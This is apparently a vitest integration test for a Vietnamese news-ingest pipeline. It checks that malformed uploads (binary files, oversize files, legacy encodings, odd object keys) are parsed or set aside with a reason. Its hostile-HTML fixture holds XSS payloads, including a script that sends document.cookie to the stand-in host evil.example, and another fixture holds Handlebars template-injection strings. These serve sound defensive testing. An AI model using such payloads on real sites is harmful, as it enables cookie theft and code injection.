/**
 * Bad input through the real pipeline (s3rver over HTTP, the real SDK, the real parser, the ingest
 * handler fed an SQS batch): every upload ends parsed or set aside under rejected/ with a JSON
 * reason; no batch fails; no upload is changed or deleted.
 */
import { createHash } from 'node:crypto';
import iconv from 'iconv-lite';
import type { SQSEvent } from 'aws-lambda';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildDigests } from '../lambda/core/aggregate.ts';
import { ArticleSchema, RejectionSchema, type Article } from '../lambda/core/model.ts';
import { parseArticle } from '../lambda/core/parse.ts';
import { renderDigestHtml } from '../lambda/core/render/html.ts';
import { createIngestHandler } from '../lambda/handlers/ingest.ts';
import { DEFAULT_CONFIG, type PipelineConfig } from '../lambda/pipeline/config.ts';
import { ingestUpload } from '../lambda/pipeline/ingest.ts';
import { articleKeyOf, rejectionKeyOf } from '../lambda/pipeline/keys.ts';
import { silentLogger } from '../lambda/pipeline/log.ts';
import { reconcile } from '../lambda/pipeline/reconcile.ts';
import { encodeS3Key } from '../lambda/pipeline/s3-event.ts';
import type { S3ObjectStore } from '../lambda/storage/s3.ts';
import { startFaultProxy, type FaultProxy } from './helpers/fault-proxy.ts';
import { startLocalS3, type LocalS3 } from './helpers/reliability-s3.ts';

const LIMIT = 64 * 1024;
const config: PipelineConfig = { ...DEFAULT_CONFIG, maxUploadBytes: LIMIT };
const BODY =
  'Hội nghị sơ kết 6 tháng đầu năm 2023 của Đảng ủy khối\n\n' +
  'Sáng 10/7/2023, Đảng ủy Khối các cơ quan tỉnh tổ chức hội nghị sơ kết công tác xây dựng Đảng 6 tháng đầu năm, ' +
  'triển khai nhiệm vụ 6 tháng cuối năm 2023. Đồng chí Nguyễn Văn An, Bí thư Đảng ủy Khối chủ trì hội nghị.\n';

const pdfBytes = Buffer.concat([Buffer.from('%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n', 'latin1'), Buffer.alloc(200, 7)]);
const jpegBytes = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]), Buffer.from('JFIF\0', 'latin1'), Buffer.alloc(300, 0x80)]);
const zipBytes = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00]), Buffer.alloc(300, 0x33)]);
const invalidUtf8 = Buffer.concat([Buffer.from(BODY.slice(0, 60)), Buffer.from([0xc3, 0x28, 0xa0, 0xa1, 0xe2, 0x28, 0xa1, 0xf0, 0x28, 0x8c, 0xbc]), Buffer.from(BODY.slice(60))]);
const utf16Bom = Buffer.concat([Buffer.from([0xff, 0xfe]), iconv.encode(BODY, 'utf16le')]);
/** Windows-1258 as Vietnamese sites wrote it: precomposed vowels where the code page has them, tone marks combining. */
function toCp1258(text: string): Buffer {
  const TONE = /[\u0300\u0301\u0303\u0309\u0323]/u;
  let out = '';
  for (const ch of text.normalize('NFC')) {
    if (iconv.decode(iconv.encode(ch, 'windows1258'), 'windows1258') === ch) {
      out += ch;
      continue;
    }
    const parts = [...ch.normalize('NFD')];
    out += parts.filter((c) => !TONE.test(c)).join('').normalize('NFC') + parts.filter((c) => TONE.test(c)).join('');
  }
  return iconv.encode(out, 'windows1258');
}
const cp1258 = toCp1258(BODY);
const decomposed = Buffer.from(BODY.normalize('NFD'));
const hostileHtml = Buffer.from(
  `<!doctype html><html><head><title>Hội nghị quán triệt Nghị quyết 05-NQ/TU</title>
<link rel="canonical" href="javascript:alert(1)"><script>alert('head')</script></head>
<body><article><h1>Hội nghị quán triệt Nghị quyết 05-NQ/TU</h1>
<p>Sáng 12/6/2023, Ban Thường vụ Thành ủy tổ chức hội nghị quán triệt Nghị quyết 05-NQ/TU cho hơn 300 đảng viên.</p>
<script>document.location='https://evil.example/'+document.cookie</script>
<img src="x" onerror="alert('img')"><p onclick="alert(2)">Đồng chí Trần Thị Bình, Phó Bí thư Thường trực Thành ủy phát biểu chỉ đạo hội nghị.</p>
<p><a href="javascript:alert('link')">Xem thêm</a> <a href="JaVaScRiPt:alert(3)">chi tiết</a></p>
</article></body></html>`,
);
const handlebars = Buffer.from(
  'Hội nghị gặp mặt {{constructor.constructor "alert(1)"}} {{{rawHtml}}} {{> partial}}\n\n' +
    'Sáng 5/5/2023, Hội đồng nhân dân tỉnh tổ chức gặp mặt {{#each x}}đại biểu{{/each}} với nội dung {{{<script>alert(1)</script>}}} và {{@root.secret}}.\n',
);
const megaLine = Buffer.from('Hội nghị ' + 'đạihộiđảngbộ'.repeat(Math.ceil((1024 * 1024) / 12)).slice(0, 1024 * 1024) + '\n');

interface Case {
  name: string;
  key: string;
  bytes: Buffer;
  /** The expected end: an article, or a rejection with this reason. */
  expect: 'article' | 'empty' | 'binary' | 'too-large' | 'article-or-rejection';
}

const longSegment = 'báo cáo tổng kết công tác xây dựng Đảng năm 2023 ';
const CASES: Case[] = [
  { name: 'empty file', key: 'incoming/bad/empty.txt', bytes: Buffer.alloc(0), expect: 'empty' },
  { name: 'PDF', key: 'incoming/bad/report.pdf', bytes: pdfBytes, expect: 'binary' },
  { name: 'JPEG', key: 'incoming/bad/photo.txt', bytes: jpegBytes, expect: 'binary' },
  { name: 'ZIP', key: 'incoming/bad/archive.html', bytes: zipBytes, expect: 'binary' },
  { name: 'over the size limit', key: 'incoming/bad/huge.txt', bytes: Buffer.alloc(LIMIT + 1, 'a'), expect: 'too-large' },
  { name: 'invalid UTF-8', key: 'incoming/bad/invalid-utf8.txt', bytes: invalidUtf8, expect: 'article-or-rejection' },
  { name: 'UTF-16 with BOM', key: 'incoming/bad/utf16.txt', bytes: utf16Bom, expect: 'article' },
  { name: 'Windows-1258', key: 'incoming/bad/cp1258.txt', bytes: cp1258, expect: 'article' },
  { name: 'decomposed Unicode (NFD)', key: 'incoming/bad/nfd.txt', bytes: decomposed, expect: 'article' },
  { name: 'HTML with script, onerror and javascript: links', key: 'incoming/bad/hostile.html', bytes: hostileHtml, expect: 'article' },
  { name: 'Handlebars syntax in the text', key: 'incoming/bad/handlebars.txt', bytes: handlebars, expect: 'article' },
  { name: 'a 1 MB line with no spaces', key: 'incoming/bad/one-line.txt', bytes: megaLine, expect: 'article-or-rejection' },
  { name: 'key with spaces', key: 'incoming/bad/tin tức hôm nay.txt', bytes: Buffer.from(BODY + 'a\n'), expect: 'article' },
  { name: 'key with + and %', key: 'incoming/bad/a+b %41 100%.txt', bytes: Buffer.from(BODY + 'b\n'), expect: 'article' },
  { name: 'key with Vietnamese letters', key: 'incoming/bad/Hội nghị Ban Chấp hành Đảng bộ tỉnh lần thứ 15.txt', bytes: Buffer.from(BODY + 'c\n'), expect: 'article' },
  {
    // ~990 bytes: the record key (`articles/…​.json`) must still fit S3's 1,024-byte limit.
    name: 'very long key',
    key: `incoming/bad/${Array.from({ length: 9 }, () => longSegment.trim()).join('/')}/${'dài'.repeat(20)}.txt`,
    bytes: Buffer.from(BODY + 'd\n'),
    expect: 'article',
  },
];

let s3: LocalS3;
let proxy: FaultProxy;
let store: S3ObjectStore;
/** Not behind the proxy: the test's own reads see no injected faults. */
let direct: S3ObjectStore;
const etags = new Map<string, string | null>();

const sha = (b: Uint8Array) => createHash('sha256').update(b).digest('hex');

function sqsEvent(keys: string[], bucket: string): SQSEvent {
  return {
    Records: keys.map((key, i) => ({
      messageId: `m${i}`,
      receiptHandle: `r${i}`,
      body: JSON.stringify({ Records: [{ eventName: 'ObjectCreated:Put', s3: { bucket: { name: bucket }, object: { key: encodeS3Key(key) } } }] }),
      attributes: { ApproximateReceiveCount: '1' },
      messageAttributes: {},
      md5OfBody: '',
      eventSource: 'aws:sqs',
      eventSourceARN: 'arn:aws:sqs:ap-southeast-1:000000000000:ingest',
      awsRegion: 'ap-southeast-1',
    })),
  } as unknown as SQSEvent;
}

async function recordOf(key: string): Promise<{ kind: 'article'; article: Article } | { kind: 'rejection'; reason: string; message: string } | null> {
  const a = await direct.get(articleKeyOf(key));
  const r = await direct.get(rejectionKeyOf(key));
  if (a && r) throw new Error(`both records for ${key}`);
  if (a) return { kind: 'article', article: ArticleSchema.parse(JSON.parse(Buffer.from(a).toString('utf8'))) };
  if (r) {
    const rejection = RejectionSchema.parse(JSON.parse(Buffer.from(r).toString('utf8')));
    return { kind: 'rejection', reason: rejection.reason, message: rejection.message };
  }
  return null;
}

beforeAll(async () => {
  s3 = await startLocalS3();
  proxy = await startFaultProxy(s3.endpoint);
  store = s3.store(proxy.endpoint);
  direct = s3.store();
  for (const c of CASES) {
    await store.put(c.key, c.bytes);
    etags.set(c.key, (await store.head(c.key))?.etag ?? null);
  }
  await store.put('outside/not-an-upload.txt', BODY);
  await store.put('articles/sneaky.txt', BODY);
  // The oversize upload must be judged by its size alone: any GET of it would fail loudly.
  proxy.inject({ method: 'GET', path: /bad\/huge\.txt/, fault: { kind: 'internal-error' }, times: 1_000 });
  const handler = createIngestHandler({ store, config, log: silentLogger, parse: parseArticle, bucket: s3.bucket });
  const response = await handler(sqsEvent([...CASES.map((c) => c.key), 'outside/not-an-upload.txt', 'articles/sneaky.txt'], s3.bucket));
  batchFailures = response.batchItemFailures.map((f) => f.itemIdentifier);
}, 120_000);
afterAll(async () => {
  await proxy?.close();
  await s3?.close();
});
let batchFailures: string[] = [];

describe('bad input: every upload ends parsed or set aside with a reason', () => {
  it('the whole batch succeeds (no message reported as failed)', () => {
    expect(batchFailures).toEqual([]);
  });

  it.each(CASES)('$name', async (c) => {
    const record = await recordOf(c.key);
    expect(record, `no record for ${c.key}`).not.toBeNull();
    if (c.expect === 'article') expect(record).toMatchObject({ kind: 'article' });
    else if (c.expect !== 'article-or-rejection') expect(record).toMatchObject({ kind: 'rejection', reason: c.expect });
    if (record?.kind === 'rejection') expect(record.message.length).toBeGreaterThan(0);
    // The upload is untouched.
    const now = await direct.get(c.key);
    expect(now && sha(now)).toBe(sha(c.bytes));
    expect((await direct.head(c.key))?.etag).toBe(etags.get(c.key));
  });

  it('the oversize upload was rejected without a single GET of its body', () => {
    const gets = proxy.requests.filter((r) => r.method === 'GET' && /bad\/huge\.txt(?!\.json)/.test(r.path) && !r.path.includes('rejected/'));
    expect(gets).toEqual([]);
  });

  it('the size limit is configurable: the same upload under a larger limit is parsed, not rejected', async () => {
    proxy.clear();
    const bigEnough: PipelineConfig = { ...config, maxUploadBytes: LIMIT * 4 };
    const key = 'incoming/bad/limit-ok.txt';
    await store.put(key, Buffer.concat([Buffer.from(BODY), Buffer.alloc(LIMIT, 'x'), Buffer.from('\n')]));
    const outcome = await ingestUpload({ store, config: bigEnough, log: silentLogger, parse: parseArticle }, key);
    expect(outcome.status).not.toBe('rejected');
  });

  it('text in legacy and unusual encodings reads as the same Vietnamese (NFC)', async () => {
    for (const key of ['incoming/bad/utf16.txt', 'incoming/bad/cp1258.txt', 'incoming/bad/nfd.txt']) {
      const record = await recordOf(key);
      if (record?.kind !== 'article') throw new Error(`${key} not parsed`);
      expect(record.article.title).toContain('Hội nghị sơ kết 6 tháng đầu năm 2023');
      expect(record.article.body).toBe(record.article.body.normalize('NFC'));
      expect(record.article.body).toContain('Đồng chí Nguyễn Văn An');
    }
    // Same text, any encoding: one article id.
    const ids = await Promise.all(['incoming/bad/utf16.txt', 'incoming/bad/nfd.txt'].map(async (k) => ((await recordOf(k)) as { article: Article }).article.id));
    expect(new Set(ids).size).toBe(1);
  });

  it('hostile HTML: the record and the digest carry no script, event handler or javascript: link', async () => {
    const record = await recordOf('incoming/bad/hostile.html');
    if (record?.kind !== 'article') throw new Error('hostile.html not parsed');
    expect(record.article.body).toContain('Trần Thị Bình');
    expect(record.article.body).not.toMatch(/<script|document\.cookie|onerror|javascript:/i);
    const html = renderDigestHtml(buildDigests([record.article])[0]!, { lang: 'vi' });
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toMatch(/\son\w+\s*=/i);
    expect(html).not.toMatch(/href\s*=\s*["']?\s*javascript:/i);
  });

  it('Handlebars syntax in article text is shown as text, never evaluated', async () => {
    const record = await recordOf('incoming/bad/handlebars.txt');
    if (record?.kind !== 'article') throw new Error('handlebars.txt not parsed');
    expect(record.article.title).toContain('{{constructor.constructor');
    const html = renderDigestHtml(buildDigests([record.article])[0]!, { lang: 'vi' });
    // The braces survive (not consumed as a template) and the embedded tag stays escaped.
    expect(html).toContain('{{constructor.constructor');
    expect(html).toContain('{{{rawHtml}}}');
    expect(html).not.toContain('<script>alert(1)</script>');
  });

  it('an upload outside incoming/ (or a pipeline prefix) is ignored and left alone', async () => {
    expect(await store.get('rejected/outside/not-an-upload.txt.json')).toBeNull();
    expect(Buffer.from((await store.get('outside/not-an-upload.txt'))!).toString()).toBe(BODY);
    expect(Buffer.from((await store.get('articles/sneaky.txt'))!).toString()).toBe(BODY);
    const outcome = await ingestUpload({ store, config, log: silentLogger, parse: parseArticle }, 'outside/not-an-upload.txt');
    expect(outcome.status).toBe('ignored');
  });

  it('reconciliation balances: incoming = articles + rejected', async () => {
    const report = await reconcile(store);
    expect(report.unaccounted).toEqual([]);
    expect(report.doubled).toEqual([]);
    expect(report.incoming).toBe(CASES.length + 1);
    // `articles/sneaky.txt` is a stray under articles/ and is reported, not hidden.
    expect(report.orphanArticles).toEqual(['articles/sneaky.txt']);
    expect(report.balanced).toBe(false);
    await store.delete('articles/sneaky.txt');
    expect((await reconcile(store)).balanced).toBe(true);
  });
});
